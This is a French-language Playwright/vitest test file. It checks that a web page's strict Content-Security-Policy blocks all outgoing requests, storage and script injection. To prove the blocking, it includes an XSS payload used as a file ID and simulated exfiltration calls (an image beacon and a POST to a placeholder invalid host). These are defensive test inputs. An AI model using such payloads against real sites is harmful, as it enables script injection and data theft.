/** « Rien ne quitte cette page » : la politique de sécurité est stricte, le navigateur la tient, et aucune requête ne part. */
import { readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { FICHIER, lancer, lireLExemple, ouvrir } from './navigateur'

let navigateur: Browser
let serveur: Server
const recues: string[] = []

beforeAll(async () => {
  navigateur = await lancer()
  serveur = createServer((requete, reponse) => {
    recues.push(requete.url ?? '')
    reponse.setHeader('content-type', 'text/html; charset=utf-8').end(readFileSync(FICHIER))
  })
  await new Promise<void>((pret) => serveur.listen(0, '127.0.0.1', pret))
})
afterAll(async () => {
  await navigateur.close()
  serveur.close()
})

describe('la politique', () => {
  const politique = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(readFileSync(FICHIER, 'utf8'))?.[1] ?? ''
  const directives = new Map(politique.split('; ').map((d) => [d.split(' ')[0], d.split(' ').slice(1)]))

  test('interdit tout par défaut, toute connexion, tout formulaire', () => {
    for (const nom of ['default-src', 'connect-src', 'form-action', 'base-uri'])
      expect(directives.get(nom), nom).toEqual(["'none'"])
  })

  test("n'admet de script et de style que par leur empreinte", () => {
    for (const nom of ['script-src', 'style-src']) {
      expect(directives.get(nom)).toEqual([expect.stringMatching(/^'sha256-[A-Za-z0-9+/=]{44}'$/)])
    }
    expect(politique).not.toMatch(/unsafe|https?:|\*/)
  })
})

test('servie ou ouverte en fichier, la page travaille sans aucune requête que la sienne', async () => {
  const { page, fautes } = await ouvrir(navigateur)
  const parties: string[] = []
  page.context().on('request', (requete) => parties.push(requete.url()))
  const adresse = `http://127.0.0.1:${(serveur.address() as AddressInfo).port}/`
  await page.goto(adresse)
  await lireLExemple(page)
  await page.click('button.compte >> nth=0')
  await page.click('button.dossier >> nth=0')
  await page.waitForSelector('#fiche:not([hidden])')
  expect(parties.filter((url) => !url.startsWith('blob:'))).toEqual([adresse])
  expect(recues).toEqual(['/'])
  expect(fautes).toEqual([])
  expect(await page.context().cookies()).toEqual([])
  expect(await page.evaluate(() => localStorage.length + sessionStorage.length)).toBe(0)
  await page.context().close()
})

test('un code qui voudrait envoyer quelque chose en est empêché', async () => {
  const { page } = await ouvrir(navigateur)
  const tentatives = await page.evaluate(async () => {
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective))
    const essayer = (agir: () => void): string => {
      try {
        agir()
        return 'admis'
      } catch {
        return 'empêché'
      }
    }
    const image = new Image()
    image.src = 'https://exemple.invalid/fuite.png?donnees=1'
    const envoi = await fetch('https://exemple.invalid/', { method: 'POST', body: 'donnees' }).then(
      () => 'parti',
      () => 'empêché',
    )
    const texte = essayer(() => document.body.insertAdjacentHTML('beforeend', '<p>injecté</p>'))
    const attribut = essayer(() => document.body.setAttribute('onclick', 'window.execute = true'))
    const script = document.createElement('script')
    const balise = essayer(() => {
      script.textContent = 'window.execute = true'
    })
    document.body.append(script)
    document.body.click()
    await new Promise((suite) => setTimeout(suite, 200))
    return { violations, envoi, texte, attribut, balise, execute: 'execute' in window }
  })
  expect(tentatives).toMatchObject({ envoi: 'empêché', texte: 'empêché', attribut: 'empêché', balise: 'empêché', execute: false })
  expect(tentatives.violations).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'require-trusted-types-for']))
  await page.context().close()
})

test('le contenu d’un dossier n’est jamais du code', async () => {
  const { page, fautes } = await ouvrir(navigateur)
  const id = '<img src=x onerror=alert(1)><script>alert(2)</script>'
  const dossier = {
    id,
    departement: '67',
    situations: [{ debut: '2022-02-08', droit: 'versable', soumisDroitsDevoirs: true, notifieeLe: '2022-03-01' }],
  }
  await page.click('summary:has-text("Coller")')
  await page.fill('#texte', JSON.stringify(dossier))
  await page.click('#lire-le-texte')
  await page.click('button.compte >> nth=0')
  await page.click('button.dossier')
  await page.waitForSelector('#fiche:not([hidden])')
  expect(await page.textContent('#titre-fiche')).toBe(`Dossier ${id}`)
  expect(await page.locator('main img, main script').count()).toBe(0)
  expect(fautes).toEqual([])
  await page.context().close()
})
